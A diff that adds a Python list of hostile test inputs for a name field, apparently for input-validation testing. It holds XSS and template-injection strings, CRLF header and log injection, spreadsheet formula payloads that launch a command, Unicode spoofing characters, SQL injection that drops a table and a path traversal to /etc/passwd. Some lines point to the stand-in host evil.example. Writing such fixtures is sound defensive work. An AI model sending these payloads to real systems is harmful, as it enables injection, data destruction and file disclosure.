@@ -1,0 +1,62 @@
+"""Hostile inputs: markup, script, URL schemes, header/log injection, spreadsheet formulas,
+Unicode tricks and control characters. Each is short enough for a name field (≤ 120)."""
+
+PAYLOADS = [
+    # Markup and script
+    '<script>alert("xss1")</script>',
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    '"><script>alert(2)</script>',
+    "'><script>alert(3)</script>",
+    "</textarea><script>alert(4)</script>",
+    "</title><script>alert(5)</script>",
+    "<img src=x onerror=alert(6)>",
+    '<img src="x" onerror="alert(7)">',
+    "<svg onload=alert(8)>",
+    "<svg><script>alert(9)</script></svg>",
+    "<body onload=alert(10)>",
+    '<iframe src="javascript:alert(11)"></iframe>',
+    "<details open ontoggle=alert(12)>",
+    "<input autofocus onfocus=alert(13)>",
+    '<a href="javascript:alert(14)">click</a>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(15)>",
+    '" onmouseover="alert(16)" x="',
+    "' onfocus='alert(17)' autofocus='",
+    "<style>@import 'http://evil.example/x.css';</style>",
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(19)">',
+    "<object data=javascript:alert(20)>",
+    '<base href="//evil.example/">',
+    "<!--<img src=--><img src=x onerror=alert(22)//>",
+    "{{7*7}} {% print 'ssti' %}",
+    "${7*7} #{7*7} <%= 7*7 %>",
+    # URL schemes
+    "javascript:alert(26)",
+    "JaVaScRiPt:alert(27)",
+    "data:text/html;base64,PHNjcmlwdD5hbGVydCgyOCk8L3NjcmlwdD4=",
+    "vbscript:msgbox(29)",
+    # Header and log injection
+    "line\r\nSet-Cookie: evil=1",
+    "name\nINFO advocacy: login succeeded: user 1",
+    "a\r\n\r\n<script>alert(32)</script>",
+    "%0d%0aLocation:%20http://evil.example",
+    # Spreadsheet formulas
+    "=HYPERLINK(\"http://evil.example\",\"click\")",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+9)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    # Unicode tricks
+    "\u202egnp.exe",
+    "abc\u202dxyz\u202c\u2066\u2069",
+    "zero\u200bwidth\ufeffbom",
+    "\U0001f4da\U0001f468\u200d\U0001f469\u200d\U0001f467 library",
+    "Ｓｃｒｉｐｔ＜ｔａｇ＞",
+    "e\u0301\u0301\u0301 combining",
+    # SQL and paths
+    "'; DROP TABLE stories; --",
+    "1' OR '1'='1",
+    "../../../../etc/passwd",
+    # Control characters
+    "nul\x00byte",
+    "bell\x07 and \x1b[31mred\x1b[0m",
+]
